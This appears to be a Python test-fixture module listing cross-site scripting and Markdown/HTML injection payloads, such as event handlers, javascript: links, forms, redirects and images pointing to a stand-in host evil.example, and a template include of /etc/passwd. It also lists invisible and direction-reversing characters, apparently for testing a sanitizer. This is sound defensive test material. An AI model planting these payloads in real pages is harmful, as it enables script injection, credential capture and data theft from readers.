"""What a document may say to harm whoever reads it in a browser: it would run, load, send, lead away, or hide.

`alert` and `evil.example` stand for the harm; none may come of them.
"""

ATTACKS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=https://evil.example/pixel>",
    '"><img src=https://evil.example/quoted onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href=https://evil.example/x.svg#y></use></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<form action=https://evil.example/form><input name=passphrase><button>Publish</button></form>",
    "<button formaction=https://evil.example/button>Publish</button>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
    "<link rel=stylesheet href=https://evil.example/style.css><link rel=prefetch href=https://evil.example/prefetch>",
    "<style>@import url(https://evil.example/import); * { background: url(https://evil.example/background) }</style>",
    '<p style="background:url(https://evil.example/inline);position:fixed;inset:0">cover</p>',
    "<a id=token name=passphrase>clobber</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[link](javascript:alert(1))",
    "[link](jav&#x09;ascript:alert(1))",
    "[link](data:text/html,<script>alert(1)</script>)",
    "[link](vbscript:alert(1))",
    '[link](<https://evil.example/" onmouseover=alert(1) x=">)',
    "![image](https://evil.example/image?d=secret)",
    "![image](javascript:alert(1))",
    '![image](x "onerror=alert(1)")',
    '[reference]: https://evil.example/reference "<script>alert(1)</script>"',
    "<https://evil.example/auto>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
"""Of Markdown and HTML alike."""

HIDDEN = (
    "tags \U000e0041\U000e0042",
    "zero \u200bwidth",
    "override \u202egnp.exe",
    "isolate \u2066inside\u2069",
    "mark \ufeffinside",
    "selector a\ufe0f",
    "soft\u00adhyphen",
    "escape \x1b[2J",
)
"""Characters that nobody sees, or that turn the direction, each in a line of its own."""
